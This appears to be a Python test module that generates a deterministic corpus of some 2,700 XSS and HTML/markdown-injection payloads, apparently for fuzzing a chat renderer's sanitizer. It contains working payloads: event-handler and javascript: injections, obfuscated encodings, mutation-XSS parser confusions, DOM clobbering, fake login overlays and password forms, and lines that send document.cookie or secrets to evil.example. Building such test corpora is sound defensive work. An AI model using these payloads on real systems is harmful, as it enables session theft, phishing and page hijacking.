"""Texts that attack whoever shows them: some 2,700, made from our own lists of tags, events, addresses and disguises.

What they do when they get through can be noticed from outside: they call `hit`, `alert`, `confirm`, `prompt` or `print`,
set `window.hacked`, ask EVIL or another port of this machine for something, draw over the whole page, or bring a form.
Nothing here is taken from a published list. The same list comes out every time; `sample` takes some of each kind.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from itertools import cycle, product
from urllib.parse import quote

EVIL = "evil.example"
SAMPLE = 420
"""How many are tried where not all are asked for."""

CALLS = (
    "hit(1)",
    "alert(1)",
    "top['hi'+'t'](2)",
    "(0,eval)(atob('aGl0KDMp'))",
    "[4].find(hit)",
    "window.hacked=1",
    "setTimeout('hit(5)')",
    "confirm(6)||prompt(7)",
    "fetch('//evil.example/f?'+document.cookie)",
    "import('//evil.example/m.js')",
    "location='//evil.example/l'",
    "document.body.innerHTML=hit(8)",
    "new Image().src='//evil.example/n'",
    "parent.hit(9)",
    "print()",
)

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe src=data:,x",
    "object data=x",
    "embed src=x",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "details open",
    "marquee width=1",
    "link rel=stylesheet href=x",
    "script src=x",
    "style",
    "image src=x",
    "math",
    "button autofocus",
    "a href=# autofocus",
    "div tabindex=1 autofocus contenteditable",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x dur=1s",
    "dialog open",
    "picture><img srcset=x",
    "x contenteditable autofocus",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onfocusin",
    "ontoggle",
    "onstart",
    "onbegin",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "onmouseover",
    "onclick",
    "onloadstart",
    "onpageshow",
    "onhashchange",
    "onscrollend",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
    "OnErRoR",
)
_GLUES = (
    " {}={}",
    "/{}={}",
    "\n{}\n=\n{}",
    '\t{}="{}"',
    " {}='{}'",
    "\f{}=`{}`",
    ' x="y"{}={}',
    " {} = {} x",
)

_ADDRESSES = (
    "http://evil.example/a?q=SECRET",
    "//evil.example/b?q=机密",
    "https://evil.example/c#x",
    "HTTP:\\\\evil.example\\d",
    "http://user:pass@evil.example:80/e",
    "http:&#47;&#47;evil.example/f",
    "{canary}/g?q=SECRET",
)
_LOADERS = (
    '<img src="{}">',
    "<img srcset='{} 1x, x 2x'>",
    "<picture><source srcset='{}'><img></picture>",
    '<video poster="{}"></video>',
    '<video src="{}" autoplay></video>',
    "<audio autoplay><source src='{}'></audio>",
    "<video><track default src='{}'></video>",
    '<input type=image src="{}">',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<body background="{}">',
    '<link rel=stylesheet href="{}">',
    '<link rel=preload as=image href="{}">',
    '<link rel=prefetch href="{}"><link rel=dns-prefetch href="{}">',
    '<link rel=preconnect href="{}">',
    '<link rel="shortcut icon" href="{}">',
    '<link rel=modulepreload href="{}">',
    '<script src="{}"></script>',
    '<script type=module>import "{}"</script>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<iframe src="{}"></iframe>',
    '<frameset><frame src="{}"></frameset>',
    '<svg><image href="{}" width=9 height=9 /></svg>',
    '<svg><image xlink:href="{}" width=9 height=9 /></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<svg><filter id=f><feImage href="{}"/></filter><rect width=9 height=9 filter=url(#f) /></svg>',
    '<math><mtext><img src="{}"></mtext></math>',
    '<div style="background:url({})">x</div>',
    "<div style='background-image:image-set(\"{}\" 1x)'>x</div>",
    '<ul><li style="list-style-image:url({})">x</ul>',
    '<p style="content:url({})">x</p>',
    '<p style="border-image:url({}) 9;border:1px solid">x</p>',
    '<p style="cursor:url({}),auto">x</p>',
    '<p style="mask-image:url({});-webkit-mask:url({})">x</p>',
    "<style>@import '{}';</style>",
    "<style>@import url({});</style>",
    "<style>*{{background:url({})}}</style>",
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({})}}</style>",
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><img src=x>',
    '<form action="{}"><input name=密码 type=password><button autofocus>登录</button></form>',
    '<button form=f formaction="{}">继续</button><form id=f></form>',
    '<a href="{}" ping="{}">点此</a>',
    '<a href="{}" target=_self>资料原文</a>',
    "![图]({})",
    '![图]({} "标题")',
    "![图](<{}>)",
    "[![图]({})]({})",
    "![图][r]\n\n[r]: {}",
    "[点此]({})",
    "[点此][s]\n\n[s]: <{}> 'x'",
    "<{}>",
    "{}",
    "$$\\href{{{}}}{{x}} \\includegraphics{{{}}}$$",
    "```mermaid\ngraph TD; A[<img src='{}'>] --> B\n```",
    "```html\n<img src='{}'>\n```",
    '<template shadowrootmode=open><img src="{}"></template>',
    "<xml-stylesheet href='{}'/><?xml-stylesheet href='{}'?>",
    '=HYPERLINK("{}","点此")',
    '=WEBSERVICE("{}")',
)

_CARRIERS = (
    '<a href="{}">点此</a>',
    "<a href='{}' autofocus onfocus=click()>x</a>",
    '<iframe src="{}"></iframe>',
    '<iframe srcdoc="<a href={}>x</a>"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<input type=submit formaction="{}">',
    '<svg><a href="{}"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="{}"><rect width=99 height=99 /></a></svg>',
    '<svg><a><animate attributeName=href values="{}" /><text y=20>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<math><maction actiontype=statusline xlink:href="{}">x</maction></math>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}/"><a href=x>y</a>',
    '<area href="{}">',
    "[点此]({})",
    "[点此](<{}>)",
    "[点此][j]\n\n[j]: {}",
    "<{}>",
    "![图]({})",
)
_SCHEMES = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    "java\tscript:hit(1)",
    "java\nscript:hit(1)",
    "\x01javascript:hit(1)",
    " javascript:hit(1)",
    "javascript&colon;hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A;avascript&#58;hit&#40;1&#41;",
    "javascript://%0ahit(1)",
    "javascript://evil.example/%0Ahit(1)",
    "javascript:/*--></title></style>*/hit(1)",
    "vbscript:hit(1)",
    "data:text/html,<script>parent.hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "blob:http://evil.example/x",
    "view-source:javascript:hit(1)",
    "jav\u200bascript:hit(1)",
    "ｊａｖａｓｃｒｉｐｔ:hit(1)",
)

_BASES = (
    "<script>hit(1)</script>",
    "<img src=x onerror=hit(1)>",
    "<svg onload=hit(1)>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<a href=javascript:hit(1)>x</a>",
    "<img src=http://evil.example/k>",
    "![x](http://evil.example/k)",
    "<style>*{background:url(//evil.example/k)}</style>",
    "<form action=//evil.example><input name=p></form>",
    "<div style=position:fixed;inset:0;background:red;z-index:99999>x</div>",
    "<details open ontoggle=hit(1)>x</details>",
    "<input autofocus onfocus=hit(1)>",
    "<math><mi xlink:href=javascript:hit(1)>x</mi></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/k>",
    "<link rel=stylesheet href=//evil.example/k.css>",
    "<object data=data:text/html,<script>parent.hit(1)</script>></object>",
    "<video src=x onerror=hit(1)></video>",
    "<button data-do=delete class=zd-act autofocus onfocus=hit(1)>x</button>",
    "[x](javascript:hit(1))",
)

_ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u061c")


def _every_second(text: str, mark: str) -> str:
    return "".join(char + mark * (i % 2) for i, char in enumerate(text))


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in text)


def _disguises(text: str) -> Iterator[str]:
    """`text` in every disguise that some decoder on the way might take off."""
    yield _entities(text, "&#{};")
    yield _entities(text, "&#x{:x};")
    yield _entities(text, "&#{:07d}")
    yield text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    yield text.replace("<", "&LT").replace(">", "&GT")
    yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "".join(f"\\u{ord(char):04x}" for char in text)
    yield "".join(f"\\x{ord(char) & 255:02x}" for char in text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e").replace("(", "\uff08")
    yield text.replace("<", "\u2039").replace(">", "\u203a")
    yield text.replace("<", "%C0%BC").replace(">", "%C0%BE")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "<\x00")
    yield text.replace("<", "\x00<\x08")
    yield text.swapcase()
    yield text.replace("<", "\\<").replace("[", "\\[").replace("!", "\\!")
    yield text.replace(" ", "/").replace("=", "\r\n=\r\n")
    yield text.replace(" ", "\x0c").replace("=", " = ")
    yield f"\u202e{text}\u202c"
    yield f"\u2066{text[::-1]}\u2069\u202e{text}"
    yield f"`{text}`"
    yield f"<!--{text}-->"
    yield f"<![CDATA[{text}]]>"
    yield f"<%{text}%>"
    yield f"<?php {text} ?>"
    yield "data:text/html;base64," + base64.b64encode(text.encode()).decode()


_BREAKOUTS = (
    '">',
    "'>",
    '" ',
    "' ",
    "` ",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</xmp>",
    "</template>",
    "</select>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</div></div></div></main>",
    "*/",
    '\\";hit(1);//',
    "';hit(1);//",
    "`${hit(1)}`",
    "{{constructor.constructor('hit(1)')()}}",
    "```\n",
    "~~~\n",
    "$$ ",
    "\n\n",
    "\n    ",
    "> ",
    "- ",
    "1. ",
    "# ",
    "|a|b|\n|-|-|\n|",
    "[1]",
    "[1](",
    "**",
    "\\",
    "[^1]: ",
    "\u2028",
    "\x1b]8;;http://evil.example\x07",
)
_BROKEN_OUT = _BASES[:3] + _BASES[5:7] + _BASES[8:11]

_SCRIPTS = (
    "<script>{}</script>",
    "<script type=module>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script>//&NewLine;{}</script></svg>",
    "<math><script>{}</script></math>",
    "<script>//\u2028{}</script>",
    "<script>/*<!--*/{}/*--></script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    '<svg onload="{}">',
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<svg><foreignObject><body onload="{}"></foreignObject></svg>',
    '<img src=x onerror="{}">',
    '<details open ontoggle="{}">',
    "<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{}\">",
    '<p style=content-visibility:auto oncontentvisibilityautostatechange="{}">x',
)

_CONFUSIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    "<noscript><style></noscript><img src=x onerror=hit(1)></style>",
    "<textarea><title></textarea><img src=x onerror=hit(1)></title>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=hit(1)>'>",
    "<table><tr><td></tr><img src=x onerror=hit(1)></table>",
    "<p><svg><desc><p><style></desc></svg><img src=x onerror=hit(1)></style>",
    "<svg><foreignObject><math><mi><style><img src=x onerror=hit(1)></style>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit(1)></annotation-xml></math>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'>",
    "<noembed><p title='</noembed><svg onload=hit(1)>'>",
    "<plaintext><img src=x onerror=hit(1)>",
    "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
    "<a href='\"><img src=x onerror=hit(1)>'>x</a>",
    "<img alt='<x' title='/><img src=x onerror=hit(1)>'>",
    "<div id=1<!--><img src=x onerror=hit(1)>-->",
    "<!--><img src=x onerror=hit(1)>-->",
    "<!--x--!><img src=x onerror=hit(1)>-->",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit(1)>'>]>&y;",
    "<frameset onload=hit(1)>",
    "<html onpageshow=hit(1)>",
    "</body onload=hit(1)><body onload=hit(1)>",
    "<isindex type=image src=1 onerror=hit(1)>",
    "<keygen autofocus onfocus=hit(1)>",
    "<svg><style>{font-family:'<iframe/onload=hit(1)>'",
    "<svg><title><img src=x onerror=hit(1)></title></svg>",
    "<template shadowrootmode=open><img src=x onerror=hit(1)></template>",
    "<selectedcontent></selectedcontent><select><button><selectedcontent><option><img src=x onerror=hit(1)>",
    "<img src=x:x onerror=hit(1)//",
    "<svg/onload=hit(1)",
    "<p/><img/src/onerror=hit(1)>",
    "<x/y='>' onclick=hit(1)><img src=x onerror=hit(1)>",
)
_CLOBBERED = (
    "Zhida",
    "link",
    "server",
    "texts",
    "turns",
    "zd",
    "zd-question",
    "zd-hover",
    "cookie",
    "body",
    "forms",
)
_CLOBBERS = (
    "<a id={0}><a id={0} name=link href=javascript:hit(1)>",
    "<form id={0} name={0}><input name=server id=server></form>",
    "<img name={0} src=x>",
    "<iframe name={0} srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object id={0} data=x></object>",
)
_OVERLAYS = (
    "<div style='position:fixed;inset:0;background:#fff;z-index:2147483647'>请重新登录</div>",
    "<div style='position:absolute;top:0;left:0;width:9999px;height:9999px;background:red'>x</div>",
    "<dialog open style='width:100vw;height:100vh;max-width:none'>请重新登录<form method=dialog><input></form></dialog>",
    "<div popover=manual id=p>x</div><button popovertarget=p autofocus>x</button>",
    "<marquee style='position:fixed;top:0;left:0;font-size:999px'>x</marquee>",
    "<div class=zd-scrim>x</div>",
    "<div class='zd-drawer' role=dialog aria-modal=true>x</div>",
    "<aside class=zd-side>假的来源</aside>",
    "<table style='position:sticky;top:0;height:100vh;width:100vw'><tr><td>x</table>",
    "<style>body>*{display:none}body:after{content:'请重新登录';position:fixed;inset:0}</style>",
    "<div style='transform:scale(999)'>x</div>",
    "<h1 style=font-size:9999px>x</h1>",
    "<canvas style='position:fixed;inset:0;width:100%;height:100%'></canvas>",
    "<textarea style='position:fixed;inset:0;width:100%;height:100%'>x</textarea>",
)
_FIELDS = (
    "<form action={0}><input name=user><input name=pass type=password><button>登录</button></form>",
    "<form action={0} method=post enctype=multipart/form-data><input type=file name=f></form>",
    "<form id=q action={0}></form><input form=q name=pass><button form=q>确定</button>",
    "<isindex action={0} prompt=密码>",
    "<input type=password name=pass autocomplete=current-password formaction={0}>",
    "<select form=q onchange=submit()><option>x</select><form id=q action={0}>",
    "<details><summary>登录</summary><form action={0}><input name=pass></form></details>",
    "<portal src={0}></portal>",
    "<fencedframe src={0}></fencedframe>",
    "<button command=show-modal commandfor=d>x</button><dialog id=d><form action={0}><input></form></dialog>",
)
_TEMPLATES = (
    "{{CALL}}",
    "{{{CALL}}}",
    "{{#with (lookup this 'constructor')}}CALL{{/with}}",
    "${CALL}",
    "<%= CALL %>",
    "#{CALL}",
    "{% CALL %}",
    "{{this.constructor.constructor('CALL')()}}",
    "[[CALL]]",
    "<div v-html=CALL x-init=CALL ng-init=CALL hx-on:load=CALL>x</div>",
    "javascript:CALL",
    "{props.value}{value.__proto__.x=CALL}",
    "%(x)s {0.__class__} {} CALL",
)
_DEEDS = (
    "delete",
    "export-md",
    "rename",
    "theme",
    "cite",
    "retry",
    "draft",
    "drawer-close",
    "attach",
    "ask",
    "x'];hit(1)//",
)
_OWN = (
    "<button type=button class=zd-act data-do={0} data-conversation=x>x</button>",
    '" data-do="{0}" autofocus onfocus="hit(1)" x="',
    "<i class='zd-i zd-i-{0}' onload=hit(1)></i>",
)


def payloads(canary: str) -> list[str]:
    """All of them, each once. `canary` is the address of a server on this machine that must never be asked."""
    calls = cycle(CALLS)
    made: list[str] = []
    glues = cycle(_GLUES)
    for tag, event in product(_TAGS, _EVENTS):
        made.append(f"<{tag}" + next(glues).format(event, next(calls)) + ">x")
    made += [loader.format(*[address] * 2) for loader, address in product(_LOADERS, _ADDRESSES)]
    made += [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
    made += [disguise for base in _BASES for disguise in _disguises(base)]
    made += [_every_second(base, mark) for base, mark in product(_BASES[:8], _ZERO_WIDTH)]
    made += [f"{start}{base}" for start, base in product(_BREAKOUTS, _BROKEN_OUT)]
    made += [script.format(call) for script, call in product(_SCRIPTS, CALLS)]
    made += [*_BASES, *_CONFUSIONS, *_OVERLAYS]
    made += [form.format(name) for form, name in product(_CLOBBERS, _CLOBBERED)]
    made += [form.format(address) for form, address in product(_FIELDS, _ADDRESSES)]
    made += [form.replace("CALL", call) for form, call in product(_TEMPLATES, CALLS[:3])]
    made += [form.format(deed) for form, deed in product(_OWN, _DEEDS)]
    return [one.replace("{canary}", canary) for one in dict.fromkeys(made)]


def sample(canary: str, count: int = SAMPLE, seed: int = 20261121) -> list[str]:
    """`count` of them from all over the list, the same for the same seed, in the list's order."""
    every = payloads(canary)
    chosen = random.Random(seed).sample(range(len(every)), min(count, len(every)))
    return [every[i] for i in sorted(chosen)]
